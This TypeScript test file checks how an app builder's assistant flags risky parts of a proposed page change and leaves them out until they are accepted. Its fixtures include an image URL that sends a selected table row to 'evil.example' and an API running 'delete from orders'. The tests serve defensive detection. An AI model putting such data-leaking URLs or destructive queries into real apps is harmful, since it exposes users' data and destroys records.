import {
  type AssistantDraft,
  beginDraft,
  changesOf,
  chosenChange,
  type Risk,
  risksOf,
} from '@ashlar/assistant/building'
import { apply } from '@ashlar/document'
import {
  type ApiRecord,
  type Change,
  type JsonObject,
  emptyPage,
  type PageRecord,
  type PageRecords,
  type WidgetRecord,
  widgetCatalogue,
} from '@ashlar/schema'
import { widgetDescriptors } from '@ashlar/widgets/descriptors'
import { describe, expect, it } from 'vitest'
import { wordsOfRisk } from './risk-words.ts'
import { valuesOf } from './shown-values.ts'

const catalogue = widgetCatalogue(widgetDescriptors)

const aWidget = (
  id: string,
  type: string,
  properties: JsonObject = {},
  parentId = 'canvas',
): WidgetRecord => ({
  kind: 'widget',
  id,
  name: id,
  type,
  parentId,
  order: 'a',
  left: { value: 0, mode: 'gridUnit' },
  top: { value: 0, mode: 'gridUnit' },
  width: { value: 4, mode: 'gridUnit' },
  height: { value: 4, mode: 'gridUnit' },
  properties,
  dynamicBindingPathList: [],
  dynamicPropertyPathList: [],
})

const anApi = (name: string, sql: string, datasourceId = 'shop'): ApiRecord => ({
  kind: 'api',
  id: name,
  name,
  responseType: 'SYNC',
  trigger: { type: 'UI' },
  blocks: [
    {
      id: `${name}Step`,
      kind: 'step',
      name: 'Step1',
      pluginId: 'postgres',
      datasourceId,
      configuration: { body: sql },
    },
  ],
  onSuccess: [],
  onError: [],
  onCancel: [],
})

const adding = (...records: PageRecord[]): Change => ({
  added: Object.fromEntries(records.map((record) => [record.id, record])),
  updated: {},
  removed: {},
})
const updating = (...pairs: (readonly [PageRecord, PageRecord])[]): Change => ({
  added: {},
  updated: Object.fromEntries(pairs.map(([before, after]) => [after.id, [before, after]])),
  removed: {},
})
const all = { left: new Set<string>(), acceptedRisks: new Set<string>() }

let count = 0

/** A draft that does this to an empty page, or to one with these records. */
const aDraft = (change: Change, more: PageRecords = {}): AssistantDraft => {
  const scene = { catalogue, integrations: [], routes: [], newId: () => 'new', now: () => 0 }
  const records = { ...emptyPage('Page1', () => `structure${(count += 1)}`), ...more }
  const applied = apply(records, change)
  if (!applied.ok) throw new Error('The change does not fit.')
  return { ...beginDraft({ records, scene }), records: applied.records, change }
}
const risksIn = (change: Change, records?: PageRecords): readonly Risk[] => risksOf(aDraft(change, records))

describe('a risk', () => {
  it('is told with its place and what could happen', () => {
    const image = aWidget('Image1', 'image', { image: 'https://evil.example/{{ Table1.selectedRow.name }}' })
    expect(risksIn(adding(image)).map(wordsOfRisk).join('\n')).toContain(
      'Image1.image puts data into an address',
    )
  })
})

describe('what is chosen of a proposal', () => {
  it('is all of it without what could do harm, until that is accepted by itself', () => {
    const image = aWidget('Image1', 'image', { image: 'https://evil.example/x.png', altText: 'A picture' })
    const change = adding(image, anApi('Save', 'delete from orders'))
    const risks = risksIn(change)
    const { added } = chosenChange(change, risks, all)
    expect(Object.keys(added)).toEqual(['Image1'])
    expect(added['Image1']).toMatchObject({ properties: { altText: 'A picture' } })
    expect(JSON.stringify(added)).not.toContain('evil.example')
    const acceptedRisks = new Set(risks.map(({ id }) => id))
    expect(chosenChange(change, risks, { ...all, acceptedRisks })).toEqual(change)
  })

  it('leaves out what stands in something new that is left out', () => {
    const box = aWidget('Container1', 'container')
    const canvas = aWidget('Canvas2', 'canvas', {}, 'Container1')
    const change = adding(box, canvas, aWidget('Text1', 'text', {}, 'Canvas2'), aWidget('Text2', 'text'))
    const { added } = chosenChange(change, [], { ...all, left: new Set(['Container1']) })
    expect(Object.keys(added)).toEqual(['Text2'])
  })

  it('leaves out what reads something by the new name that is left out', () => {
    const input = aWidget('Input1', 'input')
    const [text, other] = [aWidget('Text1', 'text', { text: '{{ Input1.value }}' }), aWidget('Text2', 'text')]
    const change = updating(
      [input, { ...input, name: 'Search' }],
      [text, { ...text, properties: { text: '{{ Search.value }}' } }],
      [other, { ...other, properties: { text: 'Hello' } }],
    )
    const { updated } = chosenChange(change, [], { ...all, left: new Set(['Input1']) })
    expect(Object.keys(updated)).toEqual(['Text2'])
  })

  it('fits the page it was made from', () => {
    const before = aWidget('Button1', 'button', { text: 'Go', onClick: [] })
    const after = aWidget('Button1', 'button', {
      text: 'Save',
      onClick: [{ id: '1', type: 'runJs', code: '1' }],
    })
    const change = updating([before, after])
    const chosen = chosenChange(change, risksIn(change, { Button1: before }), all)
    const applied = apply({ Button1: before }, chosen)
    expect(applied).toMatchObject({
      ok: true,
      records: { Button1: { properties: { text: 'Save', onClick: [] } } },
    })
  })
})

describe('what is listed of a change', () => {
  it('has its new name, its properties, and the blocks of an API, before and after', () => {
    const base = {
      Input1: aWidget('Input1', 'input', { label: 'Name' }),
      GetOrders: anApi('GetOrders', 'select 1'),
    }
    const change = updating(
      [base.Input1, { ...base.Input1, name: 'Search', properties: { label: 'Search' } }],
      [base.GetOrders, anApi('GetOrders', 'select 2')],
    )
    const [input, api] = changesOf(aDraft(change, base)).map(valuesOf)
    expect(input).toEqual([
      { what: 'Name', before: 'Input1', after: 'Search' },
      { what: 'label', before: 'Name', after: 'Search' },
    ])
    expect(api).toMatchObject([{ what: 'Step1' }])
    expect(api?.[0]?.before).toContain('select 1')
    expect(api?.[0]?.after).toContain('select 2')
  })
})
